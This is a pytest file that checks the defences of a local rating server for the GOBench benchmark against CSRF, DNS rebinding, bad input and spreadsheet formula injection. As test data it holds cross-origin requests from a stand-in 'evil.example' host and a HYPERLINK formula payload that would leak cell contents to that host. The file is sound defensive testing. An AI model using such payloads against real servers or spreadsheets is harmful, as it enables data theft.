"""The GOBench rating server refuses what issue 20 item 9 found it accepting, at the HTTP level.

Each test sends the attack next to a control request that differs only in the defence under test
(so a refusal is that defence's doing), against the server a rater gets (``RatingServer``,
``srv.url`` = the printed URL). Also: one transaction per rating, formula-safe CSV export, a
ratings CSV holding U+2028 / U+2029 / U+0085, the warning when bound beyond loopback.
"""

from __future__ import annotations

import http.client
import json
import sqlite3
from urllib.parse import urlsplit

import pytest
from typer.testing import CliRunner

from lensbench.benchmarks.gobench.humans import read_rating_rows
from lensbench.tools.gobench.ratings_db import RatingsDB
from lensbench.benchmarks.gobench.load import load_records
from lensbench.cli.main import app
from lensbench.tools.gobench.server import RatingServer, collect_items
from tests.tools.test_gobench_gen import _mini_release


def _post(url: str, body: bytes | str, *, content_type: str | None = "application/json", host: str | None = None,
          origin: str | None = None, site: str | None = None) -> tuple[int, str]:
    """POST raw bytes with exactly the given headers (what a browser or a script would send)."""
    u = urlsplit(url)
    conn = http.client.HTTPConnection(u.hostname, u.port, timeout=10)
    conn.putrequest("POST", u.path + (f"?{u.query}" if u.query else ""), skip_host=True, skip_accept_encoding=True)
    conn.putheader("Host", host or u.netloc)
    data = body.encode() if isinstance(body, str) else body
    for k, v in (("Content-Type", content_type), ("Origin", origin), ("Sec-Fetch-Site", site)):
        if v is not None:
            conn.putheader(k, v)
    conn.putheader("Content-Length", str(len(data)))
    conn.endheaders(data)
    r = conn.getresponse()
    out = r.status, r.read().decode("utf-8", "replace")
    conn.close()
    return out


def _get(url: str, host: str | None = None) -> int:
    u = urlsplit(url)
    conn = http.client.HTTPConnection(u.hostname, u.port, timeout=10)
    conn.putrequest("GET", u.path or "/", skip_host=True)
    conn.putheader("Host", host or u.netloc)
    conn.endheaders()
    r = conn.getresponse()
    r.read()
    conn.close()
    return r.status


@pytest.fixture()
def served(tmp_path):
    data = _mini_release(tmp_path / "data")
    items, _ = collect_items(data, load_records(data / "data_total.json"), "release")
    db = RatingsDB(tmp_path / "ratings.sqlite")
    with RatingServer(items, db, roots=[data]) as srv:
        yield srv, db, items[0].item
    db.close()


def _rating(rater, item, value="Yes") -> str:
    return json.dumps({"rater": rater, "item": item, "field": "q1", "value": value})


def test_a_rating_needs_the_token_of_this_start(served):
    srv, db, item = served
    origin = f"http://127.0.0.1:{srv.port}"
    assert _post(srv.url + "api/rate", _rating("control", item), origin=origin)[0] == 200
    assert _post(f"{origin}/api/rate", _rating("guess", item), origin=origin)[0] == 404
    assert _post(f"{origin}/t/not-the-token/api/rate", _rating("guess", item), origin=origin)[0] == 404
    assert _get(f"{origin}/") == 404  # the page itself is behind the token too
    assert db.raters() == ["control"]


def test_a_cross_origin_no_cors_fetch_stores_nothing(served):
    """``fetch(url, {method: "POST", mode: "no-cors", body})`` from another site: text/plain, foreign Origin."""
    srv, db, item = served
    status, _ = _post(srv.url + "api/rate", _rating("evil", item), content_type="text/plain;charset=UTF-8",
                      origin="http://evil.example", site="cross-site")
    assert status in (403, 415)
    assert db.raters() == []


def test_a_text_plain_form_stores_nothing_even_from_the_same_origin(served):
    """``<form enctype="text/plain">`` can smuggle a JSON body; only application/json is taken."""
    srv, db, item = served
    body = '{"rater": "form", "item": "%s", "field": "q1", "value": "Yes", "pad": "=x"}' % item
    origin = f"http://127.0.0.1:{srv.port}"
    assert _post(srv.url + "api/rate", body, content_type="text/plain", origin=origin)[0] == 415
    assert _post(srv.url + "api/rate", body, content_type="application/json", origin=origin)[0] == 200
    assert db.raters() == ["form"] and db.of_rater("form")[item] == {"q1": "Yes"}
    assert len(db.events()) == 1


def test_a_foreign_origin_is_refused_with_a_json_body(served):
    srv, db, item = served
    assert _post(srv.url + "api/rate", _rating("evil", item), origin="http://evil.example")[0] == 403
    assert _post(srv.url + "api/rate", _rating("evil", item), origin="null")[0] == 403
    assert _post(srv.url + "api/rate", _rating("evil", item), site="cross-site")[0] == 403
    assert _post(srv.url + "api/rate", _rating("script", item))[0] == 200  # no Origin: not a browser page
    assert db.raters() == ["script"]


def test_a_foreign_host_header_is_refused(served):
    """DNS rebinding: the browser sends the attacker's host name."""
    srv, db, item = served
    assert _get(srv.url, host=f"evil.example:{srv.port}") == 403
    assert _post(srv.url + "api/rate", _rating("evil", item), host=f"evil.example:{srv.port}")[0] == 403
    assert _get(srv.url, host=f"localhost:{srv.port}") == 200
    assert db.raters() == []


@pytest.mark.parametrize("rater", [None, 7, "", "   ", "x" * 900_000, "a\nb", "a\u2028b", "=HYPERLINK(\"x\")",
                                   "x" * 65])
def test_rater_names_are_validated(served, rater):
    srv, db, item = served
    status, text = _post(srv.url + "api/rate", _rating(rater, item))
    assert status in (400, 413), text
    assert db.raters() == [] and db.events() == []


def test_a_rating_and_its_event_are_one_transaction(tmp_path):
    db = RatingsDB(tmp_path / "r.sqlite")
    db.conn.execute("CREATE TRIGGER no_events BEFORE INSERT ON events BEGIN SELECT RAISE(ABORT, 'disk full'); END")
    with pytest.raises(sqlite3.DatabaseError):
        db.set("ann", "g/a/1.1.png", "q1", "Yes")
    assert db.conn.execute("SELECT COUNT(*) FROM ratings").fetchone()[0] == 0
    db.conn.execute("DROP TRIGGER no_events")
    db.set("ann", "g/a/1.1.png", "q1", "Yes")
    assert db.conn.execute("SELECT COUNT(*) FROM ratings").fetchone()[0] == 1 == len(db.events())
    db.close()


def _rated(db: RatingsDB, item: str, generator: str) -> None:
    db.add_items([(item, generator, "/x.png", "direct_light_images_1.1")])
    for f, v in zip(("q1", "q2", "q3", "q4", "q5", "aesthetics", "fidelity"), ("Yes",) * 5 + ("4", "3")):
        db.set("ann", item, f, v)


def test_exported_csv_escapes_spreadsheet_formulas(tmp_path):
    db = RatingsDB(tmp_path / "r.sqlite")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    _rated(db, "@SUM(1+1)/direct_light_images/1.1.png", evil)
    db.export_csv(tmp_path / "r.csv")
    db.close()
    import csv

    with (tmp_path / "r.csv").open(newline="", encoding="utf-8") as fh:
        cells = [c for row in csv.reader(fh) for c in row]
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells), cells
    assert "'" + evil in cells
    (row,) = read_rating_rows(tmp_path / "r.csv")  # read back exactly
    assert row.generator == evil and row.key == "@SUM(1+1)/direct_light_images/1.1.png"


@pytest.mark.parametrize("sep", ["\u2028", "\u2029", "\u0085"])
def test_ratings_csv_survives_unicode_line_separators(tmp_path, sep):
    db = RatingsDB(tmp_path / "r.sqlite")
    _rated(db, f"gen{sep}x/direct_light_images/1.1.png", f"my{sep}gen")
    assert db.export_csv(tmp_path / "r.csv") == 1
    db.close()
    (row,) = read_rating_rows(tmp_path / "r.csv")
    assert row.generator == f"my{sep}gen" and row.aesthetics == 4.0 and row.authenticity == 5.0


def test_rate_warns_when_bound_beyond_loopback_and_prints_the_token_url(tmp_path, monkeypatch):
    import aiohttp.web

    data = _mini_release(tmp_path / "data")
    started = []
    monkeypatch.setattr(aiohttp.web, "run_app", lambda app, **kw: started.append(kw))
    args = ["gobench", "rate", "--images", str(data), "--data-dir", str(data), "--db", str(tmp_path / "r.sqlite")]
    res = CliRunner().invoke(app, [*args, "--host", "0.0.0.0"])
    assert res.exit_code == 0, res.output
    assert "warning" in res.output.lower() and "0.0.0.0" in res.output
    res = CliRunner().invoke(app, args)
    assert res.exit_code == 0, res.output
    assert "warning" not in res.output.lower()
    assert "http://127.0.0.1:8765/t/" in res.output
    assert [kw["host"] for kw in started] == ["0.0.0.0", "127.0.0.1"]


def test_a_rating_database_of_the_first_rating_page_still_loads(tmp_path):
    """Schema as main's RatingsDB wrote it (no review tables): read, served and written to as before."""
    old = tmp_path / "old.sqlite"
    with sqlite3.connect(old) as c:
        c.executescript(
            "CREATE TABLE items(item TEXT PRIMARY KEY, generator TEXT, image TEXT, record_index TEXT);"
            "CREATE TABLE ratings(rater TEXT, item TEXT, field TEXT, value TEXT, ts REAL, PRIMARY KEY(rater, item, field));"
            "CREATE TABLE events(rater TEXT, item TEXT, field TEXT, value TEXT, ts REAL);")
        item = "release/direct_light_images/1.1.png"
        c.execute("INSERT INTO items VALUES(?,?,?,?)", (item, "release", "/x.png", "direct_light_images_1.1"))
        for f, v in zip(("q1", "q2", "q3", "q4", "q5", "aesthetics", "fidelity"), ("Yes",) * 4 + ("No", "4", "2")):
            c.execute("INSERT INTO ratings VALUES(?,?,?,?,1.0)", ("ann", item, f, v))
            c.execute("INSERT INTO events VALUES(?,?,?,?,1.0)", ("ann", item, f, v))
    (row,) = read_rating_rows(old)
    assert row.rater == "ann" and row.authenticity == 4.0 and row.fidelity == 2.0
    data = _mini_release(tmp_path / "data")
    items, _ = collect_items(data, load_records(data / "data_total.json"), "release")
    db = RatingsDB(old)
    with RatingServer(items, db, roots=[data]) as srv:
        origin = f"http://127.0.0.1:{srv.port}"
        assert _post(srv.url + "api/rate", _rating("bob", item), origin=origin)[0] == 200
    assert db.raters() == ["ann", "bob"] and db.of_rater("ann")[item]["fidelity"] == "2"
    assert len(db.events()) == 8
    db.close()
